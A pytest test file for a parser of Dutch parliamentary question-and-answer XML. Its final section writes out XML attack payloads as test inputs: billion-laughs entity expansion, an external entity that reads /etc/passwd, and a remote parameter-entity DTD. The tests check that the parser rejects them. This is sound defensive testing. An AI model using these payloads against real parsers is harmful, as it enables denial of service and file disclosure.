"""The official XML parser: whole documents in every layout, the corpus fragments, and hostile input."""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest
from corpus_path import CORPUS

from reader.core.errors import ParseError
from reader.core.labels import numbers_of, parse_heading
from reader.core.model import Kind, Member, RefKind
from reader.core.parse import detect_format, parse_bytes, parse_file
from reader.core.parse_xml import parse_xml

FIXTURES = Path(__file__).parent / "fixtures" / "xml"
FRAGMENTS = sorted((CORPUS / "xml").glob("*.xml")) if (CORPUS / "xml").is_dir() else []
needs_corpus = pytest.mark.skipif(not FRAGMENTS, reason=f"corpus XML fragments not found under {CORPUS}")


def fixture(name: str):
    return parse_file(FIXTURES / name)


def labels(blocks) -> list[tuple[str, list[str], bool]]:
    return [(b.label, b.numbers, b.inferred) for b in blocks]


# ---- whole documents -------------------------------------------------------------------------------------


def test_modern_document_header_and_identity():
    doc = fixture("modern_antwoord.xml")
    assert doc.source_format == "xml"
    assert doc.kind == Kind.ANTWOORD
    assert doc.id == "ah-tk-20232024-2901"
    assert (doc.chamber, doc.vergaderjaar, doc.nummer, doc.zaak) == ("tk", "2023-2024", 2901, None)
    assert doc.title == (
        "Vragen van de leden Fenna Brouwers (D66) en Mertens (CDA) aan de Minister van Infrastructuur en "
        "Waterstaat over het bericht «Veerpont Zuiderhaven vaart maandenlang niet» (ingezonden 4 maart 2024)."
    )
    assert doc.indieners == [Member("Fenna Brouwers", "D66"), Member("Mertens", "CDA")]
    assert doc.gericht_aan == "Minister van Infrastructuur en Waterstaat"
    assert doc.ingezonden == date(2024, 3, 4)
    assert doc.beantwoord_door == "Minister Verhoeven (Infrastructuur en Waterstaat)"
    assert doc.ontvangen == date(2024, 4, 2)
    assert [r.id for r in doc.zie_ook] == ["ah-tk-20232024-2650"]
    assert doc.mededeling is None


def test_modern_document_blocks_markers_and_inline_markup():
    doc = fixture("modern_antwoord.xml")
    assert labels(doc.questions) == [("1", ["1"], False), ("2", ["2"], False), ("3", ["3"], False)]
    assert labels(doc.answers) == [("1", ["1"], False), ("2 en 3", ["2", "3"], False)]
    q1 = doc.questions[0]
    assert q1.text == "Bent u bekend met het bericht «Veerpont Zuiderhaven vaart maandenlang niet»?"
    assert [(m.offset, m.number) for m in q1.markers] == [(len(q1.text), 1)]
    # lijst inside the question: one paragraph per item, the printed item marks kept, no markup
    assert doc.questions[2].text == "Welke alternatieven zijn er:\n\n– een pendelbus;\n\n– een tijdelijke brug?"
    a1 = doc.answers[0]
    assert a1.text == (
        "Ja. Het veer is niet uit de vaart genomen door het Rijk; eerder heb ik uw Kamer hierover geïnformeerd."
        "\n\nDe provincie is de vervoerder."
    )
    assert a1.text[: a1.markers[0].offset].endswith("geïnformeerd.")
    assert a1.footnotes == [2]
    a2 = doc.answers[1]
    # the note stands mid-paragraph: its text is gone, the words around it join with one space
    assert a2.text.startswith("Ongeveer 1.200 reizigers per dag. De alternatieven zijn:\n\nZie de bijlage.")
    assert a2.text[: a2.markers[0].offset] == "Ongeveer 1.200 reizigers per dag."
    # a lijst inside an al breaks the paragraph and the text after it continues as its own paragraph
    assert a2.text.endswith("Zie de bijlage.\n\na. pendelbus\n\nb. fietsroute\n\nMeer is er niet.")
    for b in doc.questions + doc.answers:
        assert "<" not in b.text and "Dagblad" not in b.text and "Aanhangsel" not in b.text


def test_modern_document_footnotes_from_extref():
    doc = fixture("modern_antwoord.xml")
    n1, n2, n3 = doc.footnotes
    assert (n1.number, n1.text) == (
        1,
        "Dagblad Zuiderhaven, 2 maart 2024 (https://www.example.nl/nieuws/veerpont-zuiderhaven)",
    )
    assert n1.urls == ["https://www.example.nl/nieuws/veerpont-zuiderhaven"] and n1.references == []
    assert n2.text == "Aanhangsel Handelingen II, vergaderjaar 2022–2023, nr. 1777"
    assert [(r.kind, r.id) for r in n2.references] == [(RefKind.AANHANGSEL, "ah-tk-20222023-1777")]
    assert n2.references[0].url == "https://zoek.officielebekendmakingen.nl/ah-tk-20222023-1777.html"
    assert [(r.kind, r.id) for r in n3.references] == [(RefKind.KAMERSTUK, "kst-31305-412")]


def test_modern_document_source_text_reads_like_the_document():
    doc = fixture("modern_antwoord.xml")
    text = doc.source_text
    assert text.startswith("Vragen van de leden Fenna Brouwers (D66) en Mertens (CDA)")
    assert "\nAntwoord van Minister Verhoeven (Infrastructuur en Waterstaat) (ontvangen 2 april 2024).\n" in text
    assert "\n\nVraag 1\nBent u bekend met" in text
    assert "\n\nAntwoord 2 en 3\nOngeveer 1.200 reizigers per dag. De alternatieven" in text
    assert text.index("Vraag 1") < text.index("Antwoord 1") < text.index("Vraag 2") < text.index("Antwoord 2 en 3")
    assert "\n1 Dagblad Zuiderhaven, 2 maart 2024" in text
    assert "\n3 Kamerstuk 31 305, nr. 412\n" in text
    assert "<" not in text.replace("«", "")


def test_ranged_lettered_unnumbered_and_antwoord_op_vraag_headings():
    doc = fixture("headings.xml")
    assert labels(doc.questions) == [
        ("1", ["1"], False), ("2", ["2"], False), ("3", ["3"], False), ("3a", ["3a"], False),
        ("4", ["4"], False), ("5", ["5"], False), ("6", ["6"], False),
    ]  # fmt: skip
    assert labels(doc.answers) == [
        ("1", ["1"], False), ("2 t/m 4", ["2", "3", "4"], False), ("3a", ["3a"], False),
        ("", ["5"], True), ("6", ["6"], False),
    ]  # fmt: skip
    assert doc.answers[3].text == "Nee."
    assert doc.beantwoord_door == (
        "Staatssecretaris Kroon (Onderwijs, Cultuur en Wetenschap), mede namens de Minister van Binnenlandse "
        "Zaken en Koninkrijksrelaties"
    )
    # no DC.identifier: the number from kamervraagnummer, the year from the date of receipt
    assert (doc.doc_id, doc.nummer, doc.vergaderjaar, doc.id) == (None, 1313, "2023-2024", "ah-tk-20232024-1313")
    assert [(len(p.questions), len(p.answers)) for p in doc.pairs()] == [(1, 1), (3, 1), (1, 1), (1, 1), (1, 1)]
    assert "\n\nAntwoord op vraag 6\nDat heb ik gedaan." in doc.source_text
    assert "\n\nAntwoord\nNee." in doc.source_text


def test_grouped_answer_and_headings_printed_as_paragraphs():
    doc = fixture("grouped.xml")
    assert [q.label for q in doc.questions] == ["1", "2", "3", "4", "5", "6"]
    assert labels(doc.answers) == [("1, 2, 3, 4 en 5", ["1", "2", "3", "4", "5"], False), ("", ["6"], True)]
    assert doc.answers[0].text == "De proef duurt twee jaar.\n\nDe evaluatie volgt in 2026."
    # <al>Vraag 6</al> and <al>Antwoord</al> are headings, not body text
    assert doc.questions[5].text == "Deelt u de zorgen van vissers?"
    assert doc.answers[1].text == "Ik begrijp die zorgen."
    assert doc.id is None and doc.nummer is None and doc.vergaderjaar == "2023-2024"
    assert doc.indieners == [Member("Dijkstra-Amrani", "VVD")]


def test_older_layout_vragen_omschr_nummer_reactie_and_nootref():
    doc = fixture("old_layout.xml")
    assert doc.kind == Kind.ANTWOORD
    assert (doc.id, doc.vergaderjaar, doc.nummer, doc.zaak) == ("ah-tk-20072008-1402", "2007-2008", 1402, "2008Z01234")
    assert doc.title == (
        "Vragen van het lid Terpstra (SP) aan de Minister van Verkeer en Waterstaat over geluidsoverlast van de "
        "ringweg bij Noorderhout. (Ingezonden 3 april 2008)"
    )
    assert doc.indieners == [Member("Terpstra", "SP")]
    assert doc.ingezonden == date(2008, 4, 3)
    assert doc.beantwoord_door == "minister Van Aalst (Verkeer en Waterstaat)"
    assert doc.ontvangen == date(2008, 4, 24)
    assert labels(doc.questions) == [("1", ["1"], False), ("2", ["2"], False)]
    assert labels(doc.answers) == [("1", ["1"], False), ("2", ["2"], False)]
    q1, q2 = doc.questions
    assert q1.text == "Kent u het onderzoek naar geluid langs de ringweg?"
    assert [(m.offset, m.number) for m in q1.markers] == [(len(q1.text), 1)]
    # the toelichting printed after the questions stays with them, with its own marker
    assert q2.text == (
        "Welke maatregelen neemt u?\n\nToelichting: Deze vragen zijn een aanvulling op eerdere vragen van het lid "
        "Terpstra."
    )
    assert [(m.offset, m.number) for m in q2.markers] == [(len(q2.text), 2)]
    assert [f.number for f in doc.footnotes] == [1, 2]
    assert [r.id for r in doc.footnotes[1].references] == ["ah-tk-20072008-977"]
    assert "\n\nVraag 1\nKent u" in doc.source_text and "\n\nAntwoord 2\nEr komt" in doc.source_text


def test_postponement_is_a_mededeling():
    doc = fixture("mededeling.xml")
    assert doc.kind == Kind.MEDEDELING
    assert doc.id == "ah-tk-20232024-2650"
    assert [q.label for q in doc.questions] == ["1", "2"] and doc.answers == []
    assert doc.mededeling == (
        "De vragen van de leden Brouwers (D66) en Mertens (CDA) over de veerpont kunnen tot mijn spijt niet "
        "binnen de gebruikelijke termijn worden beantwoord.\n\nIk streef ernaar de vragen binnen drie weken te "
        "beantwoorden."
    )
    assert doc.beantwoord_door == "Minister Verhoeven (Infrastructuur en Waterstaat)"
    assert doc.ontvangen == date(2024, 3, 25)
    assert "\n\nMededeling\nDe vragen van de leden" in doc.source_text


def test_questions_only_with_question_page_metadata():
    doc = fixture("vragen.xml")
    assert doc.kind == Kind.VRAGEN
    assert (doc.id, doc.zaak, doc.nummer, doc.vergaderjaar) == ("kv-tk-2024Z05123", "2024Z05123", None, "2023-2024")
    assert [q.label for q in doc.questions] == ["1", "2"] and doc.answers == []
    assert doc.beantwoord_door is None and doc.ontvangen is None
    # OVERHEIDop.aanhangsel on a question page names the answer
    assert [r.id for r in doc.zie_ook] == ["ah-tk-20232024-2901"]


def test_metadata_fills_what_the_header_does_not_print():
    xml = """<?xml version="1.0"?>
<officiele-publicatie>
  <metadata>
    <meta name="DC.identifier" content="ah-ek-20232024-12"/>
    <meta name="OVERHEIDop.indiener" content="Van Houten"/>
    <meta name="OVERHEIDop.ontvanger" content="Minister van Financiën"/>
    <meta name="OVERHEIDop.datumIndiening" content="2024-01-15"/>
    <meta name="OVERHEIDop.datumOntvangst" content="2024-02-01"/>
  </metadata>
  <vraag><nr>Vraag 1</nr><al>Waarom?</al></vraag>
  <antwoord><nr>Antwoord 1</nr><al>Daarom.</al></antwoord>
</officiele-publicatie>""".encode()
    doc = parse_xml(xml, "meta.xml")
    assert (doc.id, doc.chamber, doc.vergaderjaar, doc.nummer) == ("ah-ek-20232024-12", "ek", "2023-2024", 12)
    assert doc.indieners == [Member("Van Houten", None)]
    assert doc.gericht_aan == "Minister van Financiën"
    assert (doc.ingezonden, doc.ontvangen) == (date(2024, 1, 15), date(2024, 2, 1))


def test_namespaced_elements_and_windows_1252():
    xml = (
        '<?xml version="1.0" encoding="windows-1252"?>\n'
        '<op:kamervragen xmlns:op="urn:example"><op:vraag><op:nr>Vraag 1</op:nr><op:al>Café “De Zon”?</op:al>'
        "</op:vraag></op:kamervragen>"
    ).encode("cp1252")
    doc = parse_bytes(xml, "ns.xml")
    assert doc.kind == Kind.VRAGEN
    assert doc.questions[0].text == "Café “De Zon”?"


def test_escaped_markup_in_text_stays_plain_text():
    xml = b"<kamervragen><vraag><nr>Vraag 1</nr><al>Wat betekent &lt;b&gt; in <nadruk>uw</nadruk> brief?</al></vraag>"
    xml += b"</kamervragen>"
    doc = parse_xml(xml, "t.xml")
    assert doc.questions[0].text == "Wat betekent <b> in uw brief?"


# ---- the corpus fragments --------------------------------------------------------------------------------


def _printed(path: Path) -> tuple[list[str], list[str], dict[int, list[str]]]:
    """Question and answer labels as the file's own nr elements say, and the extref targets per note."""
    root = ET.parse(path).getroot()  # corpus files carry no DTD; plain ElementTree is safe on them
    q = [parse_heading(e.findtext("nr"))[1] for e in root.iter("vraag")]
    a = [parse_heading(e.findtext("nr"))[1] for e in root.iter("antwoord")]
    notes = {int(n.findtext("noot.nr")): [x.get("doc") for x in n.iter("extref")] for n in root.iter("noot")}
    return q, a, notes


@needs_corpus
@pytest.mark.corpus
@pytest.mark.parametrize("path", FRAGMENTS, ids=lambda p: p.name.split(".")[0])
def test_corpus_fragment_numbering_and_notes(path: Path):
    doc = parse_file(path)
    q, a, notes = _printed(path)
    assert doc.source_format == "xml" and doc.kind == Kind.ANTWOORD
    assert doc.id == path.name.split(".")[0]  # the collector's wrapper names the document
    assert [b.label for b in doc.questions] == q
    assert [b.label for b in doc.answers] == a
    assert all(b.numbers == numbers_of(b.label) and not b.inferred for b in doc.questions + doc.answers)
    assert [f.number for f in doc.footnotes] == sorted(notes)
    markers = sorted(m.number for b in doc.questions + doc.answers for m in b.markers)
    assert markers == sorted(notes)  # every note's marker stands in some question or answer
    for f in doc.footnotes:
        ids = {r.id for r in f.references}
        for target in notes[f.number]:
            assert target in ids or target in f.urls or any(target in u for u in f.urls), (f.number, target)
        assert f.text and "<" not in f.text
    for b in doc.questions + doc.answers:
        assert b.text and "  " not in b.text and not b.text.startswith(("Vraag", "Antwoord"))
        for f in doc.footnotes:
            if len(f.text) > 30:
                assert f.text not in b.text


@needs_corpus
@pytest.mark.corpus
def test_corpus_876_markers_and_resolved_references():
    doc = parse_file(CORPUS / "xml" / "ah-tk-20202021-876.fragments.xml")
    q1 = doc.questions[0]
    assert [m.number for m in q1.markers] == [1, 2]
    assert q1.text[: q1.markers[0].offset].endswith("van 15 juli jl.")
    assert q1.text[: q1.markers[1].offset].endswith("de schriftelijke vragen")
    assert "jl. over onder andere" in q1.text and "vragen die u heeft beantwoord" in q1.text
    assert [r.id for r in doc.footnote(2).references] == ["ah-tk-20192020-3975"]
    assert [r.id for r in doc.footnote(3).references] == ["h-tk-20192020-96-7"]
    assert doc.footnote(1).urls == ["https://ec.europa.eu/commission/presscorner/detail/en/ip_20_1340"]
    assert (doc.vergaderjaar, doc.nummer) == ("2020-2021", 876)


@needs_corpus
@pytest.mark.corpus
def test_corpus_grouped_label_lists_and_other_families():
    doc = parse_file(CORPUS / "xml" / "ah-tk-20192020-2197.fragments.xml")
    assert ("5, 6", ["5", "6"]) in [(b.label, b.numbers) for b in doc.answers]
    assert [r.id for r in doc.footnote(2).references] == ["h-tk-20192020-28-3"]
    doc = parse_file(CORPUS / "xml" / "ah-tk-20222023-2824.fragments.xml")
    # nds- is no family of the model: the note still links to the official page
    assert doc.footnote(1).urls == ["https://zoek.officielebekendmakingen.nl/nds-tk-2022D55262.html"]
    assert [r.id for r in doc.footnote(3).references] == ["kst-32404-3532"]
    doc = parse_file(CORPUS / "xml" / "ah-tk-20172018-1547.fragments.xml")
    q16 = doc.questions[15]
    assert q16.label == "16" and q16.text.startswith("Kunt u heel precies aangeven:\n\n– welke contacten")
    assert len(q16.paragraphs) == 4
    assert [r.id for r in doc.footnote(4).references] == ["kst-31066-275"]  # extref and text agree: once


# ---- hostile and broken input ----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<kamervragen><vraag><nr>Vraag 1</nr><al>&lol9;</al></vraag></kamervragen>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE kamervragen [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<kamervragen><vraag><nr>Vraag 1</nr><al>&xxe;</al></vraag></kamervragen>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE kamervragen [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<kamervragen><vraag><nr>Vraag 1</nr><al>Tekst</al></vraag></kamervragen>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE kamervragen SYSTEM "http://example.invalid/kamervragen.dtd">
<kamervragen><vraag><nr>Vraag 1</nr><al>Tekst</al></vraag></kamervragen>"""

EMPTY_DOCTYPE = b"""<!DOCTYPE kamervragen><kamervragen><vraag><nr>Vraag 1</nr><al>Tekst</al></vraag></kamervragen>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, EMPTY_DOCTYPE],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "bare-doctype"],
)
def test_dtds_and_entities_are_refused_quickly(data: bytes):
    assert detect_format(data) == "xml"
    start = time.perf_counter()
    with pytest.raises(ParseError) as err:
        parse_bytes(data, "kwaad.xml")
    assert time.perf_counter() - start < 0.5
    assert err.value.key == "xml_forbidden"
    assert "kwaad.xml" in err.value.message("en") and "DTD" in err.value.message("en")
    with pytest.raises(ParseError) as err:
        parse_xml(data, "kwaad.xml")
    assert err.value.key == "xml_forbidden"


def test_external_entity_is_never_read(tmp_path: Path):
    secret = tmp_path / "geheim.txt"
    secret.write_text("GEHEIM-123")
    data = (
        f'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY s SYSTEM "{secret.as_uri()}">]>'
        "<kamervragen><vraag><nr>Vraag 1</nr><al>&s;</al></vraag></kamervragen>"
    ).encode()
    with pytest.raises(ParseError) as err:
        parse_xml(data, "x.xml")
    assert err.value.key == "xml_forbidden" and "GEHEIM" not in str(err.value)


@pytest.mark.parametrize(
    ("data", "fragment"),
    [
        (b"<kamervragen><vraag><nr>Vraag 1</nr><al>open</vraag></kamervragen>", "mismatched tag"),
        (b"<kamervragen><vraag><al>&onbekend;</al></vraag></kamervragen>", "undefined entity"),
        (b"<kamervragen><vraag>", "no element found"),
        (b"<?xml version='1.0'?><kamervragen>\xff\xfe</kamervragen>", "not well-formed"),
    ],
    ids=["mismatched", "undefined-entity", "truncated", "bad-bytes"],
)
def test_malformed_xml_gives_a_clear_error(data: bytes, fragment: str):
    with pytest.raises(ParseError) as err:
        parse_bytes(data, "stuk.xml")
    assert err.value.key == "xml_malformed"
    message = err.value.message("en")
    assert message.startswith("stuk.xml: the XML is not well-formed (") and fragment in message
    assert "stuk.xml: de XML is niet goed gevormd" in err.value.message("nl")


def test_well_formed_xml_that_is_not_kamervragen():
    for data in (
        b"<?xml version='1.0'?><kamerstuk><al>Een motie.</al><al>Nog een alinea.</al></kamerstuk>",
        b"<metadata_gegevens><metadata name='DC.identifier' content='ah-tk-20232024-1'/></metadata_gegevens>",
    ):
        with pytest.raises(ParseError) as err:
            parse_bytes(data, "ander.xml")
        assert err.value.key == "not_kamervragen"


def test_pathological_nesting_is_one_clear_error():
    data = b"<kamervragen>" + b"<al>" * 50_000 + b"x" + b"</al>" * 50_000 + b"</kamervragen>"
    start = time.perf_counter()
    with pytest.raises(ParseError) as err:
        parse_bytes(data, "diep.xml")
    assert err.value.key == "xml_malformed" and time.perf_counter() - start < 1.0


# ---- dispatch ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", sorted(FIXTURES.glob("*.xml")), ids=lambda p: p.name)
def test_fixtures_are_detected_as_xml(path: Path):
    assert detect_format(path.read_bytes()) == "xml"
    assert parse_file(path).source_format == "xml"


@needs_corpus
@pytest.mark.parametrize("path", FRAGMENTS, ids=lambda p: p.name.split(".")[0])
def test_corpus_fragments_are_detected_as_xml(path: Path):
    assert detect_format(path.read_bytes()) == "xml"


def test_older_layout_with_long_metadata_is_still_xml():
    # <body> appears early, the first <al> only after 4 KB of metadata: still the XML, not a web page
    metas = "".join(f'<meta name="OVERHEIDop.veld{i}" content="{"x" * 60}"/>' for i in range(80))
    data = (
        f'<?xml version="1.0"?><officiele-publicatie><kamervragen><body>{metas}<vragen>'
        "<vraag><nummer>1</nummer><al>Waarom?</al></vraag></vragen></body></kamervragen></officiele-publicatie>"
    ).encode()
    assert data.index(b"<al>") > 4096
    assert detect_format(data) == "xml"
    assert parse_bytes(data, "oud.xml").questions[0].text == "Waarom?"


def test_name_parts_keep_their_space():
    from reader.core.parse_xml import parse_xml

    xml = (
        b'<kamervragen><kamervraagomschrijving type="vraag">Vragen van het lid <naam><voornaam>G.J.</voornaam>'
        b"<achternaam>Zandbergen</achternaam></naam> (Testpartij) aan de Minister van X over Y "
        b"(ingezonden 2 juni 2025).</kamervraagomschrijving><vraag><nr>Vraag 1</nr><al>Ja?</al></vraag>"
        b"</kamervragen>"
    )
    doc = parse_xml(xml, "x.xml")
    assert [(m.name, m.party) for m in doc.indieners] == [("G.J. Zandbergen", "Testpartij")]
